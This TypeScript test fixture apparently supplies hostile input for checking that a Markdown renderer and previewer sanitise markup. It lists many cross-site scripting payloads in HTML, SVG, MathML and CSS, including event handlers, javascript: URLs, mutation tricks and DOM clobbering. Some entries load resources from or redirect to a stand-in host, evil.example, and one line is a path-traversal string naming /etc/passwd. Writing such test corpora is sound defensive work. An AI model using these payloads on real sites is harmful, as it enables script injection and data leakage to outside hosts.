// HTML, SVG and styles where Markdown is expected, and inside listings that may be previewed.

const tags = [
  "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<img src=`x` onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>", "<svg><script href=data:text/javascript,alert(1) /></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>", "<svg><use xlink:href='https://evil.example/x.svg#x'/></svg>", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>", "<svg><set attributeName=href to=javascript:alert(1)></svg>", "<svg><image href=https://evil.example/p.png></svg>", "<svg><style>@import 'https://evil.example/x.css'</style></svg>", "<svg><feImage href=https://evil.example/p.png></svg>",
  "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>", "<math href=javascript:alert(1)>x</math>", "<style>@import url(https://evil.example/x.css);</style>", "<style>body{background:url(https://evil.example/p)}</style>", "<style>a{background:u\\72l(https://evil.example/p)}</style>", "<style>@im\\70ort 'https://evil.example/x.css'</style>", "<style>@imp/**/ort 'https://evil.example/x.css'</style>", "<style>a{background:image-set('https://evil.example/p' 1x)}</style>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href=https://evil.example/>", "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=prefetch href=https://evil.example/>", "<iframe src=https://evil.example></iframe>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<object data=data:text/html,x></object>", "<embed src=https://evil.example/x.swf>", "<portal src=https://evil.example>",
  "<form action=https://evil.example><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video poster=https://evil.example/p src=x onerror=alert(1)></video>", "<audio src=https://evil.example/a autoplay></audio>", "<video><source onerror=alert(1)></video>", "<body onload=alert(1)>", "<marquee onstart=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href=https://evil.example ping=https://evil.example/p target=_top>x</a>", "<isindex action=javascript:alert(1)>",
  "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>", "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[><img src=x onerror=alert(1)>]]>", "<?xml-stylesheet href='https://evil.example/x.xsl'?>", "<xmp><img src=x onerror=alert(1)></xmp>", "<select><template><img src=x onerror=alert(1)></template></select>", "<p style='background:url(https://evil.example/p);position:fixed;inset:0'>x</p>", "<div style='width:expression(alert(1))'>x</div>", "<img srcset='https://evil.example/p 1x'>", "<table background=https://evil.example/p><tr><td>x", "<a id=__TAURI_INTERNALS__ name=body>x</a>", "<form id=document><input name=cookie></form>",
];

export const markup: Record<string, string> = {
  ...Object.fromEntries(tags.flatMap((tag, index) => [
    [`tag ${index}: ${tag.slice(0, 40)}`, `before ${tag} after`],
    [`tag ${index} as a block`, `${tag}\n\nafter`],
    [`tag ${index} in a heading, a list and a table`, `# ${tag}\n\n- ${tag}\n\n| a |\n|---|\n| ${tag} |`],
    [`tag ${index} in a listing`, `\`\`\`html\n${tag}\n\`\`\``],
  ])),
  "a listing whose language is markup": '```"><img src=x onerror=alert(1)>\nx\n```',
  "a listing whose language is a path": "```../../../etc/passwd\nx\n```",
  "a listing whose language is a name of the page": "```constructor\nx\n```\n\n```__proto__\ny\n```",
  "markup in emphasis and code": "**<img src=x onerror=alert(1)>** `<script>alert(1)</script>` ~~<svg onload=alert(1)>~~",
  "entities that become markup": "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
};

/** What a preview is asked to show: the same, as pages and drawings. */
export const pages = tags;
